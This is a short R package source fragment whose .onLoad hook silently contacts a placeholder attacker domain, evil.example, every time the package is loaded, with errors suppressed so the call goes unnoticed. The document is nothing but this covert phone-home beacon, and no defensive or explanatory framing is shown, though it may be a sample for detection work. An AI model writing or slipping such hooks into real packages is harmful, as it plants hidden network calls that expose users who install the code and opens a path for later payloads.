.onLoad <- function(libname, pkgname) {
  try(readLines("https://evil.example/ping"), silent = TRUE)
}
